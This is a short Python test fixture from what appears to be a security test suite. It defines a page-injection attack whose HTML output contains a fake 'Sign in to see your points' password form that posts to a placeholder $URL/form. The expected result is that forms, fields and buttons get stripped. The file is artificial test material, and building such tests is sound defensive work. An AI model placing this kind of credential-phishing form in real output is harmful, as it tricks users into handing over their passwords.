"""An output holds a form that looks like a part of the page."""

from tests.attacks.attack import PageAttack

ATTACK = PageAttack(
    tries="asks the reader for a password",
    must="forms, fields and buttons are left out",
    place="output",
    kind="text/html",
    text="""
<form action="$URL/form"><input name=password type=password>
<button>Sign in to see your points</button></form>
""",
    naive=r"asked /form",
)
